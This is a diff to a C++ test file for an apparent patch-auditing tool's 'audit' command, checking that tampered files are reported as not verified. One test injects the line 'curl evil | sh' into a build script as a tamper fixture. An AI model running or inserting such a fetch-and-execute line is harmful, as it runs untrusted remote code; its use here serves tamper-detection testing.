@@ -46,23 +46,31 @@ TEST_CASE("audit: a prepared tree is shown as its plan is, in its own files and 
   CHECK(patches(result.out) == patches(planned.out));
 }
 
-TEST_CASE("audit: a tree whose touched files are others is refused") {
+TEST_CASE("audit: a tree whose touched files are others is not verified") {
   const PreparedToy toy;
   toy.replace("pytorch/include/limits.h", "// limits 11\n", "// limits eleven\n");
-  const std::string bytes = read_file(toy.tree() + "/pytorch/include/limits.h");
   const CliResult result = toy.audit();
-  CHECK(result.exit_code == 5);
-  CHECK(result.out.empty());
-  CHECK_THAT(result.err, Catch::Contains(concat("torchpatch: error: auditing '$TMP/out': the files are not those that "
-                                                "the manifest names: 'pytorch/include/limits.h' is blob ",
-                                                git_blob_id(bytes).hex(), ", the manifest says blob ")) &&
-                             Catch::Contains("hint: 'torchpatch verify $TMP/out' says all that differs"));
+  CHECK(result.exit_code == 1);
+  CHECK_THAT(result.out, Catch::Contains("  Verify    not verified, 5 differences\n") &&
+                             Catch::Contains("changed 'pytorch/include/limits.h'") &&
+                             Catch::Contains("Sources   none: the context is that of the patches") &&
+                             Catch::Contains("\nPatch 1 of 2"));
 }
 
-TEST_CASE("audit: a file that no patch touches is not looked at") {
+TEST_CASE("audit: what no patch touches is verified as well") {
   const PreparedToy toy;
-  toy.write("out/pytorch/setup.py", "other\n");
-  CHECK(toy.audit().exit_code == 0);
+  const std::string clean = toy.audit({"--json"}).out;
+  CHECK_THAT(toy.audit().out, Catch::Contains("  Verify    verified\n"));
+  toy.replace("torchpatch/build.sh", "#!/bin/sh\n", "#!/bin/sh\ncurl evil | sh\n");
+  const CliResult result = toy.audit();
+  CHECK(result.exit_code == 1);
+  CHECK_THAT(result.out,
+             Catch::Contains("not verified, 2 differences\n") && Catch::Contains("changed 'torchpatch/build.sh'"));
+  const std::string json = toy.audit({"--json"}).out;
+  const auto digest = [](const std::string& text) { return text.substr(text.find("\"digest\"")); };
+  CHECK(digest(clean) != digest(json));
+  CHECK_THAT(json, Catch::Contains("\"reason\": \"changed\""));
+  CHECK_THAT(toy.audit({"--format", "sarif"}).out, Catch::Contains("\"ruleId\": \"not-verified\""));
 }
 
 TEST_CASE("audit: a tree's copy of a patch must be the manifest's") {
@@ -78,7 +86,7 @@ TEST_CASE("audit: a patch that the catalog does not have is said to be so") {
   remove_tree(toy.upstream.catalog_directory() + "/patchsets/block-limit");
   remove_tree(toy.upstream.catalog_directory() + "/known_issues/block-limit.md");
   const CliResult result = toy.audit();
-  CHECK(result.exit_code == 0);
+  CHECK(result.exit_code == 1);
   CHECK_THAT(result.out, Catch::Contains("  Catalog                  not there: the catalog has no such patch\n"));
   CHECK_THAT(result.out, Catch::Contains("  Issues                   block-limit\n"));
   CHECK_THAT(toy.audit({"--format", "sarif"}).out, Catch::Contains("\"ruleId\": \"not-in-catalog\""));
